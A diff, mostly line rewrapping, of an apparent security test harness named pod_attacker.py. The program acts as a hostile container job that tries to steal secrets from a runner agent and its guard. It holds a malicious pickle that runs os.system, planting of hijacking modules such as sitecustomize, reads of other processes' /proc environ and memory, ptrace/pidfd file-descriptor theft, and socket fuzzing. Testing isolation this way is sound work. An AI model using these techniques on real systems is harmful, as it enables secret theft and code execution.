@@ -1,9 +1,10 @@
-"""A hostile job in a container, as a program of its own: `python3 pod_attacker.py LOOT ROOT WORDS...`. Python 3.9, standard
-library only. What it tries is made from what is there: every entry below ROOT, every process, every socket.
+"""A hostile job in a container, as a program of its own: `python3 pod_attacker.py LOOT ROOT
+WORDS...`. Python 3.9, standard library only. What it tries is made from what is there: every
+entry below ROOT, every process, every socket.
 
-`look` reads and asks; `plant` puts modules wherever it may write; `replace-KIND` puts something else in the place of every
-entry that it may replace. LOOT/secrets has the patterns that it must not find, LOOT/attempts-UID how often it tried, and
-LOOT/gained-* what it got.
+`look` reads and asks; `plant` puts modules wherever it may write; `replace-KIND` puts something
+else in the place of every entry that it may replace. LOOT/secrets has the patterns that it must
+not find, LOOT/attempts-UID how often it tried, and LOOT/gained-* what it got.
 """
 
 from __future__ import annotations
@@ -21,7 +22,19 @@ from pathlib import Path
 
 PTRACE_SEIZE, PIDFD_OPEN, PIDFD_GETFD = 0x4206, 434, 438
 """https://man7.org/linux/man-pages/man2/ptrace.2.html; numbers of x86-64 and arm64 alike."""
-QUESTIONS = ["watch", "start", "beat", "claimed", "joined", "leave", "restart", "waiting", "answer", "clean_up", "__init__"]
+QUESTIONS = [
+    "watch",
+    "start",
+    "beat",
+    "claimed",
+    "joined",
+    "leave",
+    "restart",
+    "waiting",
+    "answer",
+    "clean_up",
+    "__init__",
+]
 PAYLOAD = """import os
 try:
     import gc, json
@@ -33,19 +46,30 @@ except OSError:
     pass
 raise ImportError("not here")
 """
-"""A module. It tells of itself only where it is in the agent or its guard, since jobs may run what they like."""
+"""A module. It tells of itself only where it is in the agent or its guard, since jobs may run
+what they like."""
 SCRIPT = """#!/bin/sh
 if env | grep -qEf LOOT/secrets || tr '\\0' ' ' < /proc/$PPID/cmdline | grep -q 'agent.pyz guard'; then
 env > "LOOT/gained-run-$$"
 fi
 exit 0
 """
-"""The agent runs what the runner is made of, as the jobs' user and with nothing that is not theirs; the guard runs nothing."""
+"""The agent runs what the runner is made of, as the jobs' user and with nothing that is not
+theirs; the guard runs nothing."""
 PICKLE = """cos
 system
 (S'echo "$PPID" > LOOT/gained-pickle-$$'
 tR."""
-LIES = json.dumps({"agentId": 1, "poolId": 1, "agentName": "victim", "runner_id": 1, "max_lifetime": None, "state": "idle"})
+LIES = json.dumps(
+    {
+        "agentId": 1,
+        "poolId": 1,
+        "agentName": "victim",
+        "runner_id": 1,
+        "max_lifetime": None,
+        "state": "idle",
+    }
+)
 LATE = ["sitecustomize", "usercustomize", "agent", "_strptime", "stringprep", "unicodedata", "idna"]
 
 
@@ -65,11 +89,16 @@ class Attack:
             yield from (Path(place) / name for name in [*files, *folders])
 
     def folders(self) -> list[Path]:
-        found = [self.root, *(path for path in self.entries() if path.is_dir() and not path.is_symlink())]
+        found = [
+            self.root,
+            *(path for path in self.entries() if path.is_dir() and not path.is_symlink()),
+        ]
         return [path for path in found if os.access(str(path), os.W_OK | os.X_OK)]
 
     def processes(self) -> list[int]:
-        return [int(name) for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()]
+        return [
+            int(name) for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()
+        ]
 
     # --- what came of it
 
@@ -112,8 +141,20 @@ class Attack:
 
     def ask(self, path: Path) -> None:
         """All that a guard may be asked, by one who has no key, and what is no question at all."""
-        told = [json.dumps({"call": call, **more}) for call in QUESTIONS for more in ({}, {"key": ""}, {"key": None}, {"key": "0" * 32})]
-        told += ["", "null", "[]", "{}", '{"call": []}', '{"call": "watch", "full": {}}', "x" * (2 << 20)]
+        told = [
+            json.dumps({"call": call, **more})
+            for call in QUESTIONS
+            for more in ({}, {"key": ""}, {"key": None}, {"key": "0" * 32})
+        ]
+        told += [
+            "",
+            "null",
+            "[]",
+            "{}",
+            '{"call": []}',
+            '{"call": "watch", "full": {}}',
+            "x" * (2 << 20),
+        ]
         for line in told:
             self.attempt(f"ask {line[:40]}", lambda line=line: self.answer(path, line))  # type: ignore[misc]
         for sign in ('"spec"', '"key"'):
@@ -133,11 +174,17 @@ class Attack:
     def pry(self, pid: int) -> None:
         """Into a process: its files in /proc, its memory, what it has open, its view, itself."""
         for name in ("environ", "cmdline", "auxv", "maps", "stack", "syscall", "mountinfo"):
-            self.attempt(f"proc {name} of {pid}", lambda name=name: Path(f"/proc/{pid}/{name}").read_bytes())  # type: ignore[misc]
+            self.attempt(
+                f"proc {name} of {pid}",
+                lambda name=name: Path(f"/proc/{pid}/{name}").read_bytes(),  # type: ignore[misc]
+            )
         self.attempt(f"memory of {pid}", lambda: self.memory(pid))
         for name in ("root", "cwd"):
             place = Path(f"/proc/{pid}/{name}")
-            self.attempt(f"{name} of {pid}", lambda place=place: "\0".join(os.listdir(str(place))).encode())  # type: ignore[misc]
+            self.attempt(
+                f"{name} of {pid}",
+                lambda place=place: "\0".join(os.listdir(str(place))).encode(),  # type: ignore[misc]
+            )
             inside = place / str(self.root).lstrip("/") / "volumes/told/spec.json"
             self.attempt(f"told by {name} of {pid}", lambda inside=inside: self.read(inside))  # type: ignore[misc]
         try:
@@ -145,7 +192,10 @@ class Attack:
         except OSError:
             opened = [str(number) for number in range(16)]
         for number in opened:
-            self.attempt(f"fd {number} of {pid}", lambda number=number: self.read(Path(f"/proc/{pid}/fd/{number}")))  # type: ignore[misc]
+            self.attempt(
+                f"fd {number} of {pid}",
+                lambda number=number: self.read(Path(f"/proc/{pid}/fd/{number}")),  # type: ignore[misc]
+            )
         self.trace(pid)
 
     @staticmethod
@@ -161,7 +211,8 @@ class Attack:
             return b"".join(found)
 
     def trace(self, pid: int) -> None:
-        """Of the agent and its guard alone: what a job does to its own processes is nobody's business."""
+        """Of the agent and its guard alone: what a job does to its own processes is nobody's
+        business."""
         libc = ctypes.CDLL(None, use_errno=True)
         said = Path(f"/proc/{pid}/cmdline").read_bytes()
         if b"agent.pyz" not in said:
@@ -178,8 +229,14 @@ class Attack:
                 self.gained("pidfd", said)
 
     def plant(self) -> None:
-        """A module of every name that Python knows, in every folder that may be written; and one package of each."""
-        names = {*LATE, *sys.builtin_module_names, *(one.name for one in pkgutil.iter_modules()), *sys.modules}
+        """A module of every name that Python knows, in every folder that may be written; and one
+        package of each."""
+        names = {
+            *LATE,
+            *sys.builtin_module_names,
+            *(one.name for one in pkgutil.iter_modules()),
+            *sys.modules,
+        }
         for folder in self.folders():
             for name in names:
                 self.attempt("plant", lambda folder=folder, name=name: self.module(folder, name))  # type: ignore[misc]
@@ -195,7 +252,8 @@ class Attack:
             self.attempt(f"replace {path}", lambda path=path: self.instead(path, kind))  # type: ignore[misc]
 
     def instead(self, path: Path, kind: str) -> None:
-        """A folder stays unless something else is put there, so that what is in it can be tried as well."""
+        """A folder stays unless something else is put there, so that what is in it can be tried
+        as well."""
         folder = path.is_dir() and not path.is_symlink()
         if folder and kind not in ("link", "fifo"):
             return
